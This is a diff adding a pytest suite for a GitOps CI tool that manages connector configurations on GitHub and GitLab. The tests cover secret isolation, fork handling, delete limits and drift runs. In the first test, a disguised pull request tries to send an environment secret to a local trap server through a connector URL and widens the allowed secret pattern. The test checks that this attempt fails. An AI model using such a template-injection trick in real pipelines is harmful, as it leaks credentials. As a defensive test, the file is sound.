@@ -1,0 +1,200 @@
+"""What a pull request may try, and what an apply stops for."""
+
+import threading
+from http.server import BaseHTTPRequestHandler, HTTPServer
+
+import pytest
+
+from reconcile.ci.pipeline import ForgeKind
+from tests.forges.sites import PROJECT_FILE, sink, site
+
+KINDS = pytest.mark.parametrize("kind", [ForgeKind.GITHUB, ForgeKind.GITLAB], ids=str)
+SECRET = "correct-horse-battery-staple"
+
+
+class Trap:
+    """A server that remembers who came by."""
+
+    def __init__(self):
+        self.visits = visits = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self):
+                visits.append(self.path)
+                self.send_response(200)
+                self.end_headers()
+
+            do_POST = do_PUT = do_GET  # noqa: N815 - the base calls them so
+
+            def log_message(self, *arguments):
+                pass
+
+        self._server = HTTPServer(("127.0.0.1", 0), Handler)
+        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,))
+        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
+
+    def __enter__(self):
+        self._thread.start()
+        return self
+
+    def __exit__(self, *error):
+        self._server.shutdown()
+        self._thread.join()
+        self._server.server_close()
+
+
+@KINDS
+def test_a_pull_request_reaches_no_other_cluster_and_sees_no_secret(kind, tmp_path):
+    files = {"connectors/orders.yaml": sink("orders-sink")}
+    with Trap() as trap, site(kind, tmp_path, files) as place:
+        place.extra = {"SHOP_PASSWORD": SECRET, "OTHER_SECRET": SECRET}
+        repository = place.repository
+        repository.branch("evil")
+        evil = f"    connection.url: {trap.url}/${{{{ env.SHOP_PASSWORD }}}}\n"
+        head = repository.commit(
+            "Just a small fix",
+            {
+                "connectform.yaml": PROJECT_FILE.replace(
+                    "${{ env.CONNECT_URL }}", trap.url
+                ).replace('["SHOP_*"]', '["*"]'),
+                "connectors/orders.yaml": sink("orders-sink", more=evil),
+            },
+        )
+        place.open(head)
+
+        done = place.plan(head)
+
+        assert done.code == 0, done.log
+        assert trap.visits == []
+        (comment,) = place.comments()
+        assert "connectform.yaml is another one beside these definitions" in comment
+        assert "1 to change" in comment
+        for text in (done.log, done.summary, comment, *map(bytes.decode, done.kept.values())):
+            assert SECRET not in text
+
+        greedy = "    token: ${{ env.OTHER_SECRET }}\n"
+        head = repository.commit(
+            "Another", {"connectors/orders.yaml": sink("orders-sink", more=greedy)}
+        )
+        place.push(head)
+        refused = place.plan(head)
+
+        assert refused.code == 1, refused.log
+        (comment,) = place.comments()
+        assert "No plan for prod" in comment
+        assert "OTHER\\_SECRET" in comment
+        assert SECRET not in refused.log + comment
+        if kind is ForgeKind.GITHUB:
+            assert "::error file=connectors/orders.yaml,line=" in refused.log
+
+
+@KINDS
+def test_a_fork_is_validated_offline_and_told_so(kind, tmp_path):
+    files = {"connectors/orders.yaml": sink("orders-sink")}
+    with site(kind, tmp_path, files) as place:
+        place.repository.branch("theirs")
+        head = place.repository.commit(
+            "From far away", {"connectors/orders.yaml": sink("orders-sink", tasks=4)}
+        )
+        place.open(head)
+        place.extra = {"CONNECT_URL": "http://127.0.0.1:1", "CONNECTFORM_GITLAB_TOKEN": ""}
+        asked = len(place.forge.trouble.log)
+
+        done = place.plan(head, strange=True)
+
+        assert done.code == 0, done.log
+        assert "validated, and not planned" in done.log
+        assert place.comments() == []
+        assert len(place.forge.trouble.log) == asked
+        assert done.kept == {}
+
+
+@KINDS
+def test_what_a_limit_stops_goes_on_by_hand_with_the_numbers_of_the_summary(kind, tmp_path):
+    files = {f"connectors/{name}.yaml": sink(f"orders-{name}") for name in ("a", "b", "c")}
+    with site(kind, tmp_path, files) as place:
+        repository = place.repository
+        repository.branch("less")
+        head = repository.commit(
+            "Need less", {"connectors/a.yaml": None, "connectors/b.yaml": None}
+        )
+        place.open(head)
+        assert place.plan(head).code == 0
+        assert "2 to destroy" in place.comments()[0]
+        merged = place.merge("less")
+
+        stopped = place.apply(merged)
+
+        assert stopped.code == 3, stopped.log
+        assert place.names() == ["orders-a", "orders-b", "orders-c"]
+        told = stopped.summary if kind is ForgeKind.GITHUB else stopped.log
+        link = "actions/workflows/apply.yml" if kind is ForgeKind.GITHUB else "/pipelines/"
+        assert link in told
+        left = told[told.index("### What is left") :]
+        assert "allow-deletes `2`" in left
+        digest = left[left.index("sha256:") :].partition("`")[0]
+
+        given = {"cluster": "prod", "expect": digest, "allow_deletes": "2"}
+        wrong = place.apply_by_hand(merged, **{**given, "allow_deletes": "1"})
+        assert wrong.code == 3, wrong.log
+        assert len(place.names()) == 3
+        done = place.apply_by_hand(merged, **given)
+        assert done.code == 0, done.log
+        assert place.names() == ["orders-c"]
+
+
+@KINDS
+def test_what_the_pull_request_did_not_show_is_not_applied(kind, tmp_path):
+    files = {"connectors/orders.yaml": sink("orders-sink")}
+    with site(kind, tmp_path, files) as place:
+        repository = place.repository
+        repository.branch("more")
+        head = repository.commit("One", {"connectors/one.yaml": sink("orders-one")})
+        place.open(head)
+        assert place.plan(head).code == 0
+        repository.git("checkout", "--quiet", "main")
+        repository.commit("Past everybody", {"connectors/two.yaml": sink("orders-two")})
+        merged = place.merge("more")
+
+        done = place.apply(merged)
+
+        assert done.code == 5, done.log
+        assert place.names() == ["orders-one", "orders-sink"]
+        told = done.summary if kind is ForgeKind.GITHUB else done.log
+        assert "orders-two" in told
+        assert "### What is left" in told
+
+
+@KINDS
+def test_a_commit_without_a_pull_request_applies_nothing(kind, tmp_path):
+    files = {"connectors/orders.yaml": sink("orders-sink")}
+    with site(kind, tmp_path, files) as place:
+        pushed = place.repository.commit(
+            "Straight to main", {"connectors/two.yaml": sink("orders-two")}
+        )
+
+        done = place.apply(pushed)
+
+        assert done.code == 4, done.log
+        assert "nothing is approved" in done.log
+        assert place.names() == ["orders-sink"]
+        assert place.drift(pushed).code == 0
+
+
+@KINDS
+def test_a_drift_run_that_cannot_read_the_cluster_closes_nothing(kind, tmp_path):
+    files = {"connectors/orders.yaml": sink("orders-sink")}
+    with site(kind, tmp_path, files) as place:
+        head = place.repository.head()
+        place.cluster.put("orders-sink", place.config_of("orders-sink") | {"topics": "x"})
+        place.drift(head)
+        ((before, _, text, _),) = place.issues()
+        assert before == "open"
+        place.extra = {"CONNECT_URL": "http://127.0.0.1:1"}
+
+        done = place.drift(head)
+
+        assert done.code == 1, done.log
+        assert "not compared, its issue is left as it is" in done.log
+        ((after, _, same, said),) = place.issues()
+        assert (after, same, said) == ("open", text, [])
